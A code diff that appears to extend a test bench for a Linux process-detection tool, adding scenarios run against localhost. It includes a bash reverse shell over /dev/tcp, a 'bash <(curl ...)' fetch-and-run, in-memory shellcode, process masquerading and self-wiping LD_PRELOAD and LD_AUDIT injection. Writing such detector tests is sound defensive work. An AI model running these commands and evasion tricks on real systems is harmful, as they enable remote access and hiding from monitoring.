@@ -92,6 +92,12 @@ def script_from_the_network(bench: Bench) -> Started:
     return bench.run("/bin/sh", "-c", f"curl --silent {address}/install.sh | bash")
 
 
+def script_of_a_process_substitution(bench: Bench) -> Started:
+    """Do what "bash <(curl ...)" does."""
+    address = _web_server(bench, b"echo ready pid=$$; sleep 1000; true\n")
+    return bench.run("/bin/bash", "-c", f"bash <(curl --silent {address}/install.sh); true")
+
+
 def loader_as_launcher(bench: Bench) -> Started:
     return bench.run(os.path.realpath("/lib64/ld-linux-x86-64.so.2"), _copy(bench, bench.scratch))
 
@@ -176,6 +182,40 @@ def reverse_shell_running(bench: Bench) -> Started:
     return _with_facts(started, port=str(port))
 
 
+def reverse_shell_of_bash(bench: Bench) -> Started:
+    port = _listener(bench)
+    connect = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+    started = bench.run("/bin/bash", "-c", f"echo ready port={port}; exec {connect}")
+    wait_for(lambda: b"-i" in _arguments(started.pid), "the shell")
+    return started
+
+
+def shellcode_in_python(bench: Bench) -> Started:
+    return bench.run(PYTHON, bench.programs / "memory_code.py", bench.programs / "sleep.bin")
+
+
+def shellcode_in_namesake(bench: Bench) -> Started:
+    """Run it in a program that is called as an engine is, and isn't it."""
+    place = bench.programs.directory / "engine"
+    place.mkdir()
+    bench.resources.callback(shutil.rmtree, place)
+    program = shutil.copy(bench.programs / "place", place / "node")
+    return bench.run(str(program), "rwx", bench.programs / "sleep.bin", "run")
+
+
+def main_thread_ended(bench: Bench) -> Started:
+    """Run it in a thread of a process whose first thread has ended: /proc/PID shows no memory of such a one."""
+    started = bench.run(bench.programs / "thread", bench.programs / "sleep.bin")
+    wait_for(lambda: "State:\tZ" in _status(started.pid), "the first thread to end")
+    return started
+
+
+def own_program_unmapped(bench: Bench) -> Started:
+    started = bench.run(bench.programs / "leave", bench.programs / "leave.bin", "/usr/bin/sleep")
+    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "it to pass for sleep")
+    return started
+
+
 def reflective_library(bench: Bench) -> Started:
     return bench.run(bench.programs / "reflective", "whole", bench.programs / "library.so")
 
@@ -248,6 +288,19 @@ def attached_tracer(bench: Bench) -> Started:
 def preloaded_library(bench: Bench) -> Started:
     library = shutil.copy(bench.programs / "library.so", bench.scratch / "libaudit.so")
     return bench.run("/usr/bin/sleep", "1000", environment={"LD_PRELOAD": str(library)}, speaks=False)
+
+
+def preloaded_and_wiped(bench: Bench) -> Started:
+    """Preload a library that removes LD_PRELOAD from the environment when it is loaded."""
+    library = shutil.copy(bench.programs / "wiping.so", bench.scratch / "libutil.so")
+    started = bench.run("/usr/bin/env", f"LD_PRELOAD={library}", "/usr/bin/sleep", "1000", speaks=False)
+    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
+    return started
+
+
+def audited_library(bench: Bench) -> Started:
+    library = shutil.copy(bench.programs / "library.so", bench.scratch / "libaudit.so")
+    return bench.run("/usr/bin/sleep", "1000", environment={"LD_AUDIT": str(library)}, speaks=False)
 
 
 def preloaded_for_all(bench: Bench) -> Started:
@@ -442,9 +495,16 @@ def _executable(pid: int) -> str:
     return os.readlink(f"/proc/{pid}/exe")
 
 
+def _arguments(pid: int) -> list[bytes]:
+    return pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
+
+
+def _status(pid: int) -> str:
+    return pathlib.Path(f"/proc/{pid}/status").read_text(encoding="utf-8", errors="replace")
+
+
 def _pid_inside(pid: int) -> int:
-    status = pathlib.Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
-    (line,) = [line for line in status.splitlines() if line.startswith("NSpid:")]
+    (line,) = [line for line in _status(pid).splitlines() if line.startswith("NSpid:")]
     return int(line.split()[-1])
 
 
